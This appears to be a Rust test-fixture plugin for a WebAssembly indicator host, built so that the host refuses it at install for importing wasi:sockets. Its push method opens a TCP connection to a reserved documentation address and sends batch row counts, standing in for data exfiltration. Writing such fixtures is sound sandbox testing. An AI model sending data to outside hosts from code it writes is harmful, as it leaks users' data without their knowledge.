//! `zoo-sockets`: an indicator that tries to open a TCP connection in `push` and send the
//! years it reads elsewhere. `std::net` on wasm32-wasip2 makes the component import
//! `wasi:sockets/*`.
//!
//! Expected: refused at install, 422 `plugin_forbidden_import`, the message naming
//! `wasi:sockets`. Its manifest is valid: the import is the only reason.

use std::io::Write as _;
use std::net::TcpStream;

use logam_plugin_kit::{Batch, Bilingual, Indicator, IndicatorInfo, Params, PluginError, Table};
use zoo_common::Years;

pub struct Sockets {
    years: Years,
    sent: Option<String>,
}

impl Indicator for Sockets {
    fn info() -> IndicatorInfo {
        zoo_common::indicator_info(
            "zoo-sockets",
            Bilingual::new(
                "Mencoba mengirim data lewat TCP.",
                "Tries to send data over TCP.",
            ),
        )
    }

    fn new(_params: Params) -> Self {
        Sockets {
            years: Years::default(),
            sent: None,
        }
    }

    fn push(&mut self, _input: u32, batch: &Batch) -> Result<(), PluginError> {
        self.years.push(batch)?;
        let outcome = TcpStream::connect(("203.0.113.7", 9))
            .and_then(|mut stream| stream.write_all(format!("{} baris\n", batch.rows).as_bytes()));
        self.sent = Some(match outcome {
            Ok(()) => "terkirim".to_string(),
            Err(e) => format!("gagal: {e}"),
        });
        Ok(())
    }

    fn finish(&mut self) -> Result<Table, PluginError> {
        self.years.table(self.sent.as_deref().unwrap_or_default())
    }
}

logam_plugin_kit::indicator_component!(Sockets, "../../../wit");
